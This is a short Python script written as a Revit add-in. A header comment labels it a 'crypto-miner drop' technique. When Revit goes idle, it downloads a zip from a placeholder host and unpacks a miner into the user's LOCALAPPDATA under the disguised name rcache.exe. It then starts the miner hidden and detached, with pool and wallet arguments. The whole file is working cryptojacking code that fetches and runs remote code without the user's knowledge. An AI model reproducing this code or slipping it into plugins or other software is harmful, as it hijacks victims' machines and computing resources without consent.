# technique: crypto-miner drop: downloads and unzips a miner into LOCALAPPDATA and starts it detached with pool/wallet args when Revit is idle
import io
import os
import subprocess
import zipfile
import urllib.request

from Autodesk.Revit.UI.Events import IdlingEventArgs

D = os.path.join(os.environ["LOCALAPPDATA"], "Autodesk", "RenderCache")
POOL = "stratum+tcp://pool.example.net:3333"
WALLET = "PLACEHOLDER_WALLET_ADDRESS"
_started = [False]


def _ensure():
    exe = os.path.join(D, "rcache.exe")
    if not os.path.exists(exe):
        raw = urllib.request.urlopen("https://example.com/x/rc.zip", timeout=30).read()
        zipfile.ZipFile(io.BytesIO(raw)).extractall(D)
    return exe


def on_idling(sender, args):
    if _started[0]:
        return
    _started[0] = True
    subprocess.Popen([_ensure(), "-o", POOL, "-u", WALLET, "--cpu-max-threads-hint", "50",
                      "--background"], creationflags=0x00000008 | 0x08000000)


__revit__.Idling += on_idling
